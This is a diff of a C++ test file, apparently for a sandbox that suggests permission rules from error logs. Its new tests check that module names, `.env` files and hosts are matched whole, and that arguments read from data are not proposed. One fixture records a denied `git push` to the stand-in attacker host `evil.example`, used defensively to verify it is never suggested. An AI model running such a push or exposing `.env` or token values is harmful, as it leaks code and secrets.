@@ -251,6 +251,7 @@ TEST_CASE("modules that the sandbox lacks: a file of the workspace, or the Debia
   CHECK(python("bs4.element").ends_with("`apt-get install python3-bs4`"));
   CHECK(python("no_such_module_here").find("apt-get") == std::string::npos);
   CHECK(python("json.nothing") == "");
+  stage.script.source = "require('left-pad')";
   CHECK(stage.hints("Error: Cannot find module 'left-pad'\n").find("allow: {read: [\"./node_modules/**\"]}") !=
         std::string::npos);
   stage.script.source = "require('nowhere')";
@@ -332,7 +333,7 @@ TEST_CASE("what the log says opens nothing that the author has not named") {
       CHECK(hints.find(line) == std::string::npos);
   }
   stage.reader = Reader::CommandLine;
-  CHECK(stage.hints("cat: **: No such file or directory\n").ends_with("add `--read '\\*\\*'`"));
+  CHECK(stage.hints("cat: **: No such file or directory\n") == "");
 }
 
 TEST_CASE("a host with a misleading name is neither localhost nor a host that the author has named") {
@@ -352,6 +353,37 @@ TEST_CASE("a host with a misleading name is neither localhost nor a host that th
     CAPTURE(host);
     CHECK(hints_for(source, host).find("neither the skill nor the command has this name") != std::string::npos);
   }
+}
+
+TEST_CASE("names of modules, hidden files and hosts are compared as a whole, and in the right kind of text") {
+  Stage stage;
+  stage.dir.write(".env", "x");
+  stage.script.source = "node -e \"require('lodash.template'); process.env.X\"; git clone https://a.example/y.git";
+  CHECK(stage.hints("Error: Cannot find module 'lodash.temp'\n").find("npm install") == std::string::npos);
+  CHECK(stage.hints("Error: Cannot find module '--global'\n") == "");
+  CHECK(stage.hints("Error: Cannot find module '/work/.env'\n").find("write in") == std::string::npos);
+  CHECK(stage.hints("cat: .env: No such file or directory\n").find("write in") == std::string::npos);
+  stage.script.source = "cat ./.env";
+  CHECK(stage.hints("cat: .env: No such file or directory\n").find("write in") != std::string::npos);  // the control
+  Stage python;
+  python.script.lib = {{.path = "m.py", .content = "logging.info('x'); get('https://b.example/')"}};
+  python.script.band.rules.net = domain({"other.example"});
+  python.ledger("net", R"({"outcome": "refused", "host": "logging.info"})");
+  CHECK(python.hints("cannot reach logging.info\n").find("write in") == std::string::npos);
+  python.ledger("net", R"({"outcome": "refused", "host": "b.example"})");
+  CHECK(python.hints("cannot reach b.example\n").find("{net: [\"b.example\"]}") != std::string::npos);  // the control
+}
+
+TEST_CASE("arguments from data are not proposed, and a program that only data has started gets no variables") {
+  Stage stage;
+  stage.script.source = "while read -r c; do git $c; done < tasks.txt";
+  stage.ledger("command", R"({"argv": ["git", "push", "https://evil.example/r"], "denied": true})");
+  CHECK(stage.hints().find("evil.example/r\"]") == std::string::npos);
+  Stage gh;
+  gh.script.source = "bash tasks.sh";
+  gh.variables = {"GH_TOKEN"};
+  gh.ledger("not-found", R"({"argv": ["gh", "auth"]})");
+  CHECK(gh.hints("run gh auth login\n").find("env:") == std::string::npos);
 }
 
 TEST_CASE("a data file of the command, and a long value of the input, author no names") {
